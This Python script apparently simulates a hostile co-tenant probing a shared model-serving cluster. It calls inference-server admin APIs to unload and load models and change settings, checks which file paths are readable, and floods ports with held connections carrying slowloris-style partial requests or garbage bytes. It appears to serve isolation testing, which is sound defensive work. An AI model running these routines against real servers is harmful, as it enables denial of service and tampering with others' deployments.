"""What another user of the cluster tries on a served model; run as him, it prints JSON. Standard library and grpc only.

usage: intruder.py apis URL GRPC MODEL | reach URL | read PATH… | crowd HOST PORTS COUNT SECONDS KIND
"""

from __future__ import annotations

import contextlib
import json
import socket
import sys
import time
import urllib.error
import urllib.request
from pathlib import Path

SLOW = b"POST /v2/models/tensorrt_llm/generate HTTP/1.1\r\nHost: x\r\nContent-Length: 1073741824\r\n"
SAID = {"idle": b"", "slow": SLOW, "huge": SLOW + b"\r\n" + b"a" * 65536, "garbage": bytes(range(256)) * 16}


def http(url: str, method: str, path: str, body: object = None) -> int:
    """Return the status of one request, 0 where nobody listens."""
    data = None if body is None else json.dumps(body).encode()
    opener = urllib.request.build_opener(urllib.request.ProxyHandler({}))
    try:
        with opener.open(urllib.request.Request(url + path, data, method=method), timeout=10) as answer:
            return int(answer.status)
    except urllib.error.HTTPError as error:
        return error.code
    except OSError:
        return 0


def apis(url: str, address: str, model: str) -> dict[str, object]:
    """Return what each API says: HTTP's status, gRPC's code."""
    import grpc  # type: ignore[import-untyped]

    own = f"/v2/models/{model}"
    asked: list[tuple[str, str, object]] = [
        ("POST", f"/v2/repository/models/{model}/unload", {}),
        ("POST", f"/v2/repository/models/{model}/load", {}),
        ("POST", "/v2/repository/index", {}),
        ("POST", "/v2/systemsharedmemory/region/x/register", {"key": "/x", "offset": 0, "byte_size": 1}),
        ("GET", "/v2/systemsharedmemory/status", None),
        ("POST", "/v2/cudasharedmemory/unregister", {}),
        ("POST", "/v2/trace/setting", {"trace_level": ["TIMESTAMPS"]}),
        ("POST", f"{own}/trace/setting", {}),
        ("POST", "/v2/logging", {"log_verbose_level": 1}),
        ("POST", f"{own}/generate", {"text_input": "a"}),
        ("POST", f"{own}/generate_stream", {"text_input": "a"}),
        ("POST", f"{own}/infer", {"inputs": []}),
        ("GET", f"{own}/stats", None),
        ("GET", "/v2/health/ready", None),
    ]
    names = ["RepositoryModelUnload", "RepositoryModelLoad", "RepositoryIndex", "SystemSharedMemoryRegister"]
    names += ["CudaSharedMemoryRegister", "TraceSetting", "LogSettings", "ModelInfer", "ModelStatistics", "ServerReady"]
    with grpc.insecure_channel(address) as channel:
        said: dict[str, object] = {f"gRPC {name}": _grpc(grpc, channel, name) for name in names}
    return {**said, **{f"{method} {path}": http(url, method, path, body) for method, path, body in asked}}


def _grpc(grpc: object, channel: object, name: str) -> str:
    """Return the code and words of one call with an empty message, which needs no generated stubs."""
    call = channel.unary_unary(  # type: ignore[attr-defined]
        f"/inference.GRPCInferenceService/{name}", request_serializer=bytes, response_deserializer=bytes
    )
    try:
        call(b"", timeout=10)
    except grpc.RpcError as error:  # type: ignore[attr-defined]
        return f"{error.code().name}: {error.details()}"
    return "OK"


def read(paths: list[str]) -> list[str]:
    """Return those of `paths` that can be read, or listed."""
    found = []
    for path in map(Path, paths):
        try:
            list(path.iterdir()) if path.is_dir() else path.read_bytes()
        except OSError:
            continue
        found.append(str(path))
    return found


def crowd(host: str, ports: list[int], count: int, seconds: float, kind: str) -> int:
    """Open `count` connections to each port, hold them, and return how many were made."""
    held: list[socket.socket] = []
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        for port in ports if len(held) < count * len(ports) else ():
            with contextlib.suppress(OSError):
                one = socket.create_connection((host, port), timeout=1)
                one.sendall(SAID[kind])
                held.append(one)
        time.sleep(0.002)
    return len(held)


if __name__ == "__main__":
    verb, *words = sys.argv[1:]
    if verb == "apis":
        print(json.dumps(apis(*words)))
    elif verb == "reach":
        print(json.dumps(http(words[0], "GET", "/v2/health/ready")))
    elif verb == "read":
        print(json.dumps(read(words)))
    else:
        ports = [int(port) for port in words[1].split(",")]
        print(json.dumps(crowd(words[0], ports, int(words[2]), float(words[3]), words[4])))
